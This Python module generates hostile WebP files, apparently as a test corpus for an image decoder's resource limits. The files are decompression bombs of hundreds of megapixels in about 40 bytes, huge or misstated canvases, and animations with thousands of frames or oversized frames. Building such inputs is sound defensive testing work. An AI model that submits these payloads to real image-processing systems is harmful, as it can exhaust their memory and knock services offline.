"""Hostile WebP."""

from __future__ import annotations

import struct

from bombs.register import SIDE_PX, bomb


def riff(*chunks: bytes) -> bytes:
    content = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(content)) + content


def riff_chunk(kind: bytes, content: bytes) -> bytes:
    return kind + struct.pack("<I", len(content)) + content + bytes(len(content) & 1)


def lossless(width: int, height: int, alpha: int = 0) -> bytes:
    """Give a picture of one colour, which takes no bits at all, however large."""
    bits = (width - 1) | (height - 1) << 14 | alpha << 28
    code = 0b0001  # a simple code of one symbol of one bit, which is 0
    codes = sum(code << 3 + 4 * at for at in range(5))
    return riff_chunk(b"VP8L", b"\x2f" + struct.pack("<I", bits) + struct.pack("<Q", codes))


def canvas(width: int, height: int, flags: int) -> bytes:
    sides = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return riff_chunk(b"VP8X", bytes((flags, 0, 0, 0)) + sides)


def animated(width: int, height: int, frames: int, inner: tuple[int, int] | None = None) -> bytes:
    inner = inner or (width, height)
    place = bytes(6) + b"".join((side - 1).to_bytes(3, "little") for side in inner)
    each = riff_chunk(b"ANMF", place + b"\1\0\0\0" + lossless(*inner))
    control = riff_chunk(b"ANIM", bytes(6))
    return riff(canvas(width, height, 0x02), control, *[each] * frames)


@bomb(".webp")
def webp_16383() -> bytes:
    """268 megapixels in 40 bytes."""
    return riff(lossless(16_383, 16_383))


@bomb(".webp")
def webp_9999() -> bytes:
    """100 megapixels in 40 bytes, below the limit of pixels."""
    return riff(lossless(SIDE_PX, SIDE_PX))


@bomb(".webp")
def webp_4000() -> bytes:
    """16 transparent megapixels in 40 bytes."""
    return riff(lossless(4_000, 4_000, 1))


@bomb(".webp")
def webp_canvas() -> bytes:
    """A canvas of 16,777,216 by 16,777,216."""
    return riff(canvas(2**24, 2**24, 0x10), lossless(64, 64))


@bomb(".webp")
def webp_lying() -> bytes:
    """A small canvas around a large picture."""
    return riff(canvas(64, 64, 0x10), lossless(16_383, 16_383))


@bomb(".webp#5000")
def webp_far_frame() -> bytes:
    """Ten thousand frames of 200×200; the 5,000th."""
    return animated(200, 200, 10_000)


@bomb(".webp#59")
def webp_large_frames() -> bytes:
    """A hundred frames of 4 megapixels."""
    return animated(2_000, 2_000, 100)


@bomb(".webp#1")
def webp_lying_frame() -> bytes:
    """Frames larger than their canvas."""
    return animated(64, 64, 3, (16_383, 16_383))
